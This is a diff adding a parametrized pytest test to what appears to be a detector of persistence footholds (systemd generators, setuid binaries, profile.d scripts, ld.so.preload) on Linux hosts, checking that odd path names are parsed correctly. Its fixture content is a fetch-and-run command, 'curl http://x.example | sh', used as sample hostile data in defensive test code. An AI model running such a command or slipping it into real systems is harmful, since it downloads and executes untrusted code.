@@ -355,3 +355,19 @@ def test_what_a_package_brought_and_somebody_changed_is_told_so_beside_what_it_s
 def test_a_pool_that_is_called_www_prepends_no_less() -> None:
     one = place("php", "x", where="/etc/php/8.4/fpm/pool.d/www.conf", programs=((TMP, "foreign"),))
     assert told(one) == ("interpreter", "strong", ("prepended", "prepends_odd"))
+
+
+@pytest.mark.parametrize(
+    ("slot", "path", "who"),
+    [
+        ("generator", "/usr/local/lib/systemd/system-generators/fstab-generator (x)", "root"),
+        ("setuid", "/usr/bin/sudo (root)", "root"),
+        ("start", "/etc/profile.d/ssh.sh (a)", "root"),
+        ("preload", "/etc/ld.so.preload (x)", ""),
+    ],
+)
+def test_a_name_that_ends_as_if_it_said_whose_it_is_is_no_other_s(slot: Slot, path: str, who: str) -> None:
+    one = place(slot, "curl http://x.example | sh", "setuid", where=path, who=who, standing="foreign")
+    (trace,) = footholds.found([one])
+    assert footholds.path_of(trace.kind, trace.where) == path
+    assert footholds.owner_of(trace.kind, trace.where) == who
